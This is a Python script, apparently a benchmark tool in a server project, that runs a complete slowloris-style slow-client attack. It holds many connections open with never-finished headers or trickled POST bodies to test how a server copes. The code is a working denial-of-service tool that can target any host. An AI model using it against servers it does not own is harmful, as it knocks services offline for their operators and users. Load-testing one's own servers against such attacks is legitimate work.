#!/usr/bin/env python3
"""A quiet slow-client attacker: many connections that never finish a request.

Each connection sends the start of a request, then one more line every
--interval seconds, and never completes it:

- `--mode headers` (slowloris): `GET / HTTP/1.1` and a Host line, then one
  `X-N: ...` header line per interval; the blank line that ends the head
  never comes.
- `--mode body`: a complete head for `POST /` with `Content-Length: 1000000`,
  then one body byte per interval.

A connection the server closes (or answers) is opened again a second later,
so the pressure stays at --connections. Everything stops after --duration
seconds, or at SIGTERM/SIGINT, closing every socket. Unlike slowhttptest,
it sleeps between sends: it uses almost no CPU, so it takes nothing away
from the server it attacks.

Prints `open N` once a second (the connections currently open) and, at the
end, `done open=N opened=N closed-by-server=N connect-failures=N`.
Only loopback or other addresses you own are legitimate targets.

    python bench/slowloris.py --port 8000 --connections 1000 --duration 60
"""

from __future__ import annotations

import argparse
import asyncio
import resource
import signal
import sys
from dataclasses import dataclass


@dataclass
class Stats:
    open: int = 0
    opened: int = 0
    closed_by_server: int = 0
    connect_failures: int = 0


def parse_args(argv: list[str]):
    p = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    p.add_argument("--host", default="127.0.0.1")
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--connections", type=int, default=1000)
    p.add_argument("--mode", choices=("headers", "body"), default="headers")
    p.add_argument("--interval", type=float, default=10.0, help="seconds between sends (10)")
    p.add_argument("--duration", type=float, default=60.0, help="seconds before stopping (60)")
    args = p.parse_args(argv)
    if args.connections < 1 or args.interval <= 0 or args.duration <= 0:
        p.error("--connections, --interval and --duration must be positive")
    return args


def raise_fd_limit(need: int) -> None:
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    want = need if hard == resource.RLIM_INFINITY else min(need, hard)
    if soft != resource.RLIM_INFINITY and soft < want:
        resource.setrlimit(resource.RLIMIT_NOFILE, (want, hard))


def request_head(args, n: int) -> bytes:
    host = f"Host: {args.host}:{args.port}\r\n"
    if args.mode == "headers":
        return f"GET /?slow={n} HTTP/1.1\r\n{host}User-Agent: bench-slowloris\r\n".encode()
    return (
        f"POST /?slow={n} HTTP/1.1\r\n{host}User-Agent: bench-slowloris\r\n"
        "Content-Type: application/x-www-form-urlencoded\r\n"
        "Content-Length: 1000000\r\n\r\n"
    ).encode()


def next_piece(args, tick: int) -> bytes:
    return f"X-{tick}: {tick}\r\n".encode() if args.mode == "headers" else b"a"


async def one_connection(args, n: int, stats: Stats, connect_slots: asyncio.Semaphore) -> None:
    while True:
        try:
            async with connect_slots:
                reader, writer = await asyncio.wait_for(
                    asyncio.open_connection(args.host, args.port), timeout=5
                )
        except (OSError, asyncio.TimeoutError):
            stats.connect_failures += 1
            await asyncio.sleep(1)
            continue
        stats.open += 1
        stats.opened += 1
        # Any byte or EOF from the server means it answered or gave up on us.
        server_spoke = asyncio.ensure_future(reader.read(1))
        try:
            writer.write(request_head(args, n))
            await writer.drain()
            tick = 0
            while True:
                done, _ = await asyncio.wait({server_spoke}, timeout=args.interval)
                if done:
                    break
                tick += 1
                writer.write(next_piece(args, tick))
                await writer.drain()
        except OSError:
            pass
        finally:
            stats.open -= 1
            server_spoke.cancel()
            writer.close()
        stats.closed_by_server += 1
        await asyncio.sleep(1)


async def report(stats: Stats) -> None:
    while True:
        print(f"open {stats.open}", flush=True)
        await asyncio.sleep(1)


async def run(args) -> Stats:
    stats = Stats()
    stop = asyncio.Event()
    loop = asyncio.get_running_loop()
    for sig in (signal.SIGTERM, signal.SIGINT):
        loop.add_signal_handler(sig, stop.set)
    connect_slots = asyncio.Semaphore(200)  # at most 200 connects in flight
    tasks = [
        asyncio.ensure_future(one_connection(args, n, stats, connect_slots))
        for n in range(args.connections)
    ]
    tasks.append(asyncio.ensure_future(report(stats)))
    try:
        await asyncio.wait_for(stop.wait(), timeout=args.duration)
    except asyncio.TimeoutError:
        pass
    for t in tasks:
        t.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)
    return stats


def main(argv: list[str]) -> int:
    args = parse_args(argv)
    raise_fd_limit(args.connections + 64)
    stats = asyncio.run(run(args))
    print(
        f"done open={stats.open} opened={stats.opened} "
        f"closed-by-server={stats.closed_by_server} connect-failures={stats.connect_failures}",
        flush=True,
    )
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
